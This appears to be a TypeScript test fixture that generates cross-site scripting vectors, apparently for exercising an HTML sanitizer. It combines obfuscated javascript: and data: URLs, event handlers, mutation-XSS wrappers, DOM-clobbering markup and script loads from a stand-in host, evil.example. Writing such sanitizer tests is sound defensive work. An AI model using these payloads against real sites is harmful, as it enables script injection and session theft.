/** What would run, load or submit if it came through, each marked by `alert(1)` where something is to run. */
const scripts = ['alert(1)', 'top.alert(1)', "import('//evil.example/x')"]

const schemes = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&Tab;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61vascript:alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://site.example/1',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
]

const addressed: [element: string, attribute: string][] = [
  ['a', 'href'],
  ['a', 'xlink:href'],
  ['a', 'ping'],
  ['area', 'href'],
  ['img', 'src'],
  ['img', 'srcset'],
  ['img', 'data-src'],
  ['img', 'lowsrc'],
  ['iframe', 'src'],
  ['iframe', 'srcdoc'],
  ['embed', 'src'],
  ['object', 'data'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['input', 'src'],
  ['video', 'poster'],
  ['audio', 'src'],
  ['link', 'href'],
  ['base', 'href'],
  ['body', 'background'],
  ['table', 'background'],
  ['blockquote', 'cite'],
  ['q', 'cite'],
  ['ins', 'cite'],
  ['meta', 'content'],
  ['portal', 'src'],
  ['use', 'href'],
]

const handlers = [
  'onclick',
  'onload',
  'onerror',
  'onmouseover',
  'onfocus autofocus',
  'ontoggle',
  'onanimationstart',
]
const handled = [
  'a',
  'p',
  'img src=x',
  'details open',
  'svg',
  'math',
  'body',
  'table',
  'x-own',
  'input',
  'video',
  'marquee',
]

/** Ways for markup to be taken apart in one way and put together in another. */
const wrappers: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `<svg>${payload}</svg>`,
  (payload) => `<math><mtext>${payload}</mtext></math>`,
  (payload) => `<math><annotation-xml encoding="text/html">${payload}</annotation-xml></math>`,
  (payload) => `<svg><foreignObject>${payload}</foreignObject></svg>`,
  (payload) => `<svg><style>${payload}</style></svg>`,
  (payload) => `<noscript>${payload}</noscript>`,
  (payload) => `<noscript><p title="</noscript>${payload}"></noscript>`,
  (payload) => `<template>${payload}</template>`,
  (payload) => `<textarea>${payload}</textarea>${payload}`,
  (payload) => `<title>${payload}</title>`,
  (payload) => `<style>${payload}</style>`,
  (payload) => `<xmp>${payload}</xmp>`,
  (payload) => `<plaintext>${payload}`,
  (payload) => `<table>${payload}<tr><td>${payload}</table>`,
  (payload) => `<select>${payload}</select>`,
  (payload) => `<!--${payload}-->${payload}`,
  (payload) => `<!--><p title="-->${payload}">`,
  (payload) => `<a title='"><b>${payload}'>x</a>`,
  (payload) => `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
  (payload) => `<p>${payload.replaceAll('<', '&lt;')}</p>`,
  (payload) => `<pre><code>${payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</code></pre>`,
  (payload) => `<<${payload}<${payload}`,
]

/** Some thousands of pieces of HTML that are to do harm. */
export function* vectors(): Generator<string> {
  for (const wrap of wrappers) for (const payload of payloads()) yield wrap(payload)
}

function* payloads(): Generator<string> {
  for (const script of scripts) yield `<script>${script}</script>`
  yield `<script src="//evil.example/x.js"></script>`
  yield '<style>*{background:url(//evil.example/x)}</style>'
  yield '<p style="background:url(//evil.example/x);position:fixed">x</p>'
  yield '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'
  yield '<p id=location name=cookie>x</p><a id=x name=body href=//evil.example target=_blank>x</a>'
  for (const [element, attribute] of addressed)
    for (const scheme of schemes) yield `<${element} ${attribute}="${scheme}">x</${element}>`
  for (const element of handled)
    for (const handler of handlers)
      yield `<${element} ${handler}=alert(1) x="\`'>y</${element.split(' ')[0]}>`
}
